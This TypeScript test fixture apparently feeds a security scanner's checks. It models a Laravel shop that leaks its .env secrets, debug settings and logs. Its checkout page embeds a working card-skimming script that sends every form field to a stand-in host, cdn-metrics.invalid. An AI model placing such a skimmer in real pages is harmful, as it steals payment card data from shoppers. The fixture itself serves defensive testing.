import { randomBytes } from 'node:crypto';
import { fillPlaceholders } from '../../../src/rules/placeholder.ts';
import { laravelCookie } from '../../verify/offline/framework-cookies.ts';
import type { CompanyFacts, Site } from './company.ts';

const key = randomBytes(32);
const newKey = randomBytes(32);

const settings = fillPlaceholders(
  `APP_NAME=Shop
APP_ENV=production
APP_KEY=base64:${key.toString('base64')}
APP_DEBUG=true
DB_CONNECTION=mysql
DB_HOST=127.0.0.1
DB_DATABASE=shop
DB_USERNAME=shop
DB_PASSWORD=Winter{digit:2}kw
MAIL_HOST=smtp.company.example
MAIL_USERNAME=shop@company.example
MAIL_PASSWORD={alnum:24}
STRIPE_SECRET=sk_live_{alnum:24}
`,
  3,
);

const skimmer = `<script>document.querySelector('form').addEventListener('submit', function () {
  var d = {}; document.querySelectorAll('input').forEach(function (f) { d[f.name] = f.value; });
  new Image().src = 'https://cdn-metrics.invalid/p.gif?d=' + btoa(JSON.stringify(d));
});</script>`;

function pages(cookieKey: Buffer, script: string): Site {
  const cookie = `shop_session=${laravelCookie(cookieKey, 'cbc')}; Path=/; Secure; HttpOnly; SameSite=Lax`;
  return {
    '/': [
      'text/html',
      '<!DOCTYPE html><html><head><title>Shop</title></head><body><a href="/checkout">Pay</a></body></html>',
      { headers: { 'set-cookie': cookie } },
    ],
    '/checkout': [
      'text/html',
      `<!DOCTYPE html><html><head><title>Pay</title></head><body><form action="/pay" method="post"><input name="cc_number" autocomplete="cc-number"><input name="cvv"></form>${script}</body></html>`,
    ],
  };
}

const trace = [{ file: '/var/www/shop/vendor/a.php', line: 1 }];
const notFound = {
  message: 'The route x could not be found.',
  exception: String.raw`Symfony\Component\HttpKernel\Exception\NotFoundHttpException`,
  file: '/var/www/shop/vendor/laravel/framework/src/Illuminate/Routing/AbstractRouteCollection.php',
  line: 44,
  trace,
};

/** Sells by an application of Laravel, whose settings were open; its checkout hands cards to somebody else. */
export const shopCompany: CompanyFacts = {
  open: () => ({
    ...pages(key, skimmer),
    '/.env': ['text/plain', settings],
    '/_ignition/health-check': ['application/json', '{"can_execute_commands":true}'],
    '/storage/logs/laravel.log': [
      'text/plain',
      '[2026-11-20 03:04:05] production.ERROR: The payload is invalid. {"exception":"[object]"}\n',
    ],
    '*': ['application/json', JSON.stringify(notFound), { status: 404 }],
  }),
  closed: () => pages(newKey, ''),
  commits: [['.env', settings, 'Set the shop up']],
  cleaned: {},
};
